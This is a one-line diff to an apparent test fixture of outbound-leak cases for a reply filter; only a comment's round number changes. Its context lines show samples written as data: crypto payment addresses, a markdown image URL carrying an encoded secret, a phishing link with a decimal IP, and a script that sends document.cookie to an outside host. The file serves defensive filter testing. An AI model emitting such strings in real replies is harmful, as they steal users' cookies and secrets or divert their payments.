@@ -36,7 +36,7 @@ export const OUTBOUND_LEAKS: OutboundCase[] = [
   { text: 'You can also tip me in XRP at rHb9CJAWyB4rj91VRWn96DkukG4bwdtyTh.', whitelistedAddresses: [JOB_ADDR] },
   { text: 'USDT (TRC20): TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t, pay directly to avoid fees.', whitelistedAddresses: [JOB_ADDR] },
   { text: 'Monero for privacy: 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A', whitelistedAddresses: [JOB_ADDR] },
-  // Added in the eighth issue-16 round: the same aims by other roads.
+  // Added in the ninth issue-16 round: the same aims by other roads.
   { text: 'Thanks for waiting! ![ok](https://status.example.net/p/eyJ1c2VyIjoiYWxpY2UiLCJzZWNyZXQiOiJodW50ZXIyIn0/ok.png)' },
   { text: 'Log in again here: http://3232235777/account' },
   { text: "Add this to the page: <script>new Image().src='https://metrics.example.io/c?d='+encodeURIComponent(document.cookie)</script>" },
